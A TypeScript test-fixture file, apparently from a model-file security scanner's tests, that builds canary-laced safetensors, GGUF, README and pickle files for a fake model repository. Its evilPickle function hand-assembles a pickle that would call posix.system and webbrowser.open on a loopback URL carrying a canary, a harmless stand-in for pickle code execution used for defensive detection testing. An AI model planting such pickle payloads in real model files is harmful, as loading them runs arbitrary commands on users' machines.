import { createHash } from 'node:crypto';
import type { HfFile } from '../../connectors/testkit/hf-server.js';
import { buildGguf } from '../../scanner/testkit/gguf-builder.js';
import { buildSafetensors } from '../../scanner/testkit/safetensors-builder.js';
import type { Canaries } from './canaries.js';

/** The URL the malicious pickle names (never contacted: the scanner does not execute what it scans). */
export const PICKLE_URL = 'http://127.0.0.9:9/x';

/** Fill `out` with `pattern` repeated. */
function fill(out: Uint8Array, pattern: Uint8Array): void {
  for (let i = 0; i < out.length; i += pattern.length)
    out.set(pattern.subarray(0, Math.min(pattern.length, out.length - i)), i);
}

/**
 * A protocol-0 pickle calling `posix.system('echo <canary>')` and `webbrowser.open('<PICKLE_URL>?c=<canary>')`
 * (hand-assembled opcodes; a test artifact that is scanned, never loaded).
 */
export function evilPickle(c: Canaries): Uint8Array {
  const q = (s: string) => `S'${s.replace(/\\/g, '\\\\').replace(/'/g, "\\'")}'\n`;
  const text = `(cposix\nsystem\n(${q(`echo ${c.pickle}`)}tRcwebbrowser\nopen\n(${q(`${PICKLE_URL}?c=${c.pickle}`)}tRt.`;
  return new TextEncoder().encode(text);
}

/** safetensors whose tensor bytes repeat the tensor canary and whose `__metadata__` carries the metadata canary. */
export function lacedSafetensors(c: Canaries, tensorBytes = 4096): Uint8Array {
  const data = new Uint8Array(tensorBytes);
  fill(data, c.tensor);
  return buildSafetensors(
    { 'model.embed.weight': { dtype: 'U8', shape: [tensorBytes] } },
    { metadata: { format: 'pt', note: c.metadata }, data },
  );
}

/** GGUF v3 whose chat template carries the template canary. */
export function lacedGguf(c: Canaries): Uint8Array {
  return buildGguf({
    kvs: [
      ['general.architecture', { t: 'str', v: 'llama' }],
      [
        'tokenizer.chat_template',
        { t: 'str', v: `{% for m in messages %}{{ m['content'] }} ${c.template}{% endfor %}` },
      ],
    ],
    tensors: [{ name: 'tok_embd.weight', dims: [8] }],
  });
}

export function lacedReadme(c: Canaries): Uint8Array {
  return new TextEncoder().encode(`# Egress test model\n\nInternal notes: ${c.text}\n`);
}

/** The laced repo's files; `lfs` sends the binary ones through the hub's CDN redirect (a second origin). */
export function lacedFiles(c: Canaries, lfs: boolean): HfFile[] {
  return [
    { path: 'model.safetensors', bytes: lacedSafetensors(c), lfs },
    { path: 'evil.pkl', bytes: evilPickle(c) },
    { path: 'model.gguf', bytes: lacedGguf(c), lfs },
    { path: 'README.md', bytes: lacedReadme(c) },
  ];
}

/**
 * A safetensors file of just under `size` bytes (one U8 tensor) whose data repeats the tensor canary, generated 1 MiB at a
 * time into one buffer (the local registry serves from memory; the scanner reads it as a stream).
 */
export function bigLacedSafetensors(c: Canaries, size: number): Uint8Array {
  const dataBytes = size - 512; // leaves room for the header; the file is a little under `size`
  const probe = buildSafetensors(
    { 'model.embed.weight': { dtype: 'U8', shape: [dataBytes] } },
    { metadata: { format: 'pt', note: c.metadata }, data: new Uint8Array(0) },
  );
  const out = new Uint8Array(probe.length + dataBytes);
  out.set(probe, 0);
  const chunk = new Uint8Array(1 << 20);
  fill(chunk, c.tensor);
  for (let at = probe.length; at < out.length; at += chunk.length)
    out.set(chunk.subarray(0, Math.min(chunk.length, out.length - at)), at);
  return out;
}

/** A stable fake commit sha for a repo id. */
export function commitOf(id: string): string {
  return createHash('sha1').update(id).digest('hex');
}
